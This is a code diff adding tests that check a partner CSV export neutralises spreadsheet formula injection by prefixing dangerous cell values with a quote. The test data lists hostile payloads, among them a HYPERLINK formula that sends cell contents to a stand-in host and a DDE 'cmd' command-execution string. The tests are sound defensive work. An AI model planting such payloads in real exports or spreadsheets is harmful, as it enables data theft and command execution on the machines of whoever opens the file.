@@ -1,3 +1,6 @@
+import fs from 'node:fs'
+import path from 'node:path'
+import { parse } from 'csv-parse/sync'
 import ExcelJS from 'exceljs'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { Database } from '../../core/db.ts'
@@ -102,5 +105,35 @@ describe('partner export', () => {
     // The exported file imports back once the partner is renamed (same columns, export-only ones ignored).
     const again = await upload('again.csv', text.replace('Export Me Pty', 'Export Me Again Pty'))
     expect(await again.json()).toEqual({ imported: 1 })
+  })
+})
+
+describe('CSV formula injection (security 4)', () => {
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '+1+1',
+    '-2+3',
+    '\tTabbed =1+1',
+    '\rReturned',
+  ]
+
+  it('exports names a spreadsheet would run as formulas with a leading quote, as plain text', async () => {
+    for (const legalName of hostile) await makePartner(db, { legalName, headquartersCountry: 'FJ' })
+    const text = await (await ops.get('/api/partners/export?format=csv&country=FJ')).text()
+    const records = parse(text, { columns: true }) as { legalName: string }[]
+    expect(records.map((r) => r.legalName).sort()).toEqual(hostile.map((h) => `'${h}`).sort())
+  })
+
+  it('keeps CSV writing in the one shared writer', () => {
+    const root = path.resolve(import.meta.dirname, '../..')
+    const writers: string[] = []
+    for (const file of fs.readdirSync(root, { recursive: true, encoding: 'utf8' })) {
+      if (!/\.tsx?$/.test(file) || file.includes('.test.') || file.startsWith('web')) continue
+      const text = fs.readFileSync(path.join(root, file), 'utf8')
+      if (/from 'csv-stringify|text\/csv;/.test(text)) writers.push(file.split(path.sep).join('/'))
+    }
+    // sheets.ts writes every CSV; api.ts only labels the download.
+    expect(writers.sort()).toEqual(['core/sheets.ts', 'server/api.ts'])
   })
 })
